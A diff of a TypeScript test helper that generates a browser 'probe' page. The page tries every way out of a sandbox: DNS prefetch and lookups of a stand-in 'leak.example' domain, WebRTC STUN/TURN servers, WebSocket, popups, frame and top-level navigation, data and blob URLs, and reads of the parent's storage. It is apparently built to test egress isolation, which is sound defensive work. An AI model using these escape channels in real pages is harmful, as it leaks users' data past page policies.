@@ -1,5 +1,37 @@
-/** A page that tries every way out of a browser. The listener on `port` sees what it reaches; it logs what it reads. */
-export function writeProbe({ port, appPort }: { port: number; appPort: number }): string {
+/** Names under this one do not exist: only a lookup of them can be seen. */
+export const LEAK_DOMAIN = 'leak.example'
+
+/** The ways in which it goes to another address, or has it loaded in advance, which no policy in a page itself can forbid. */
+export const leavingWays = [
+  'popup',
+  'popup-link',
+  'speculation',
+  'top',
+  'top-link',
+  'parent',
+  'refresh',
+  'self-app',
+  'self',
+  'self-data',
+  'self-blob',
+]
+
+/**
+ * A page that tries every way out of a browser. The listener on `port` sees what it reaches; it logs what it reads. The
+ * last thing it does is to leave for another address, by default the listener's.
+ */
+export function writeProbe({
+  port,
+  appPort,
+  last = `http://127.0.0.1:${port}/self`,
+  without = [],
+}: {
+  port: number
+  appPort: number
+  last?: string
+  /** Ways that it does not try. */
+  without?: string[]
+}): string {
   return `<!doctype html>
 <html><head><meta charset="utf-8"><title>Probe</title>
 <link rel="stylesheet" href="http://127.0.0.1:${port}/static-style">
@@ -53,16 +85,26 @@ const ways = {
   'app-image': () => { new Image().src = app + '?image' },
   'parent-document': () => Promise.resolve(parent !== window && parent.document.title),
   'parent-storage': () => Promise.resolve(parent !== window && parent.localStorage),
+  names: () => {
+    const named = (way) => 'http://' + way + '.${LEAK_DOMAIN}:${port}/'
+    for (const rel of ['preload', 'prefetch', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender']) add('link', { rel, href: named(rel), as: 'script' })
+    add('img', { src: named('image') })
+    add('a', { href: named('anchor'), textContent: 'far' })
+    fetch(named('fetch')).catch(() => {})
+    new WebSocket('ws://socket.${LEAK_DOMAIN}:${port}/')
+  },
   'rtc-own': () => { callByRtc() },
   // A frame in the page has its own constructors, which our script did not remove.
   'rtc-dug-up': () => { add('iframe', { srcdoc: '<script>(' + callByRtc + ')()<\\/script>' }) },
 }
 function callByRtc() {
-  const connection = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
+  const login = { username: 'u', credential: 'c' }
+  const iceServers = [{ urls: 'stun:127.0.0.1:${port}' }, { urls: 'stun:stun.${LEAK_DOMAIN}:${port}' }, { urls: 'turn:127.0.0.1:${port}?transport=udp', ...login }, { urls: 'turn:127.0.0.1:${port}?transport=tcp', ...login }, { urls: 'turn:turn.${LEAK_DOMAIN}:${port}?transport=tcp', ...login }]
+  const connection = new RTCPeerConnection({ iceServers })
   connection.createDataChannel('x')
   connection.createOffer().then((offer) => connection.setLocalDescription(offer))
 }
-for (const [name, act] of Object.entries(ways)) attempt(name, act)
+for (const [name, act] of Object.entries(ways)) if (!${JSON.stringify(without)}.includes(name)) attempt(name, act)
 const leave = {
   form: () => { add('form', { action: far + 'form', method: 'post' }).submit() },
   'form-top': () => { add('form', { action: far + 'form-top', target: '_top' }).submit() },
@@ -73,9 +115,9 @@ const leave = {
   'self-data': () => { location = 'data:text/html,<img src="' + far + 'self-data">' },
   'self-blob': () => { location = URL.createObjectURL(new Blob(['<img src="' + far + 'self-blob">'], { type: 'text/html' })) },
   'self-app': () => { location = app + '?self' },
-  'self': () => { location.href = far + 'self' },
+  'self': () => { location.href = ${JSON.stringify(last)} },
 }
-Object.entries(leave).forEach(([name, act], index) => setTimeout(() => attempt(name, act), 800 + 150 * index))
+Object.entries(leave).filter(([name]) => !${JSON.stringify(without)}.includes(name)).forEach(([name, act], index) => setTimeout(() => attempt(name, act), 800 + 150 * index))
 </script>
 </body></html>`
 }
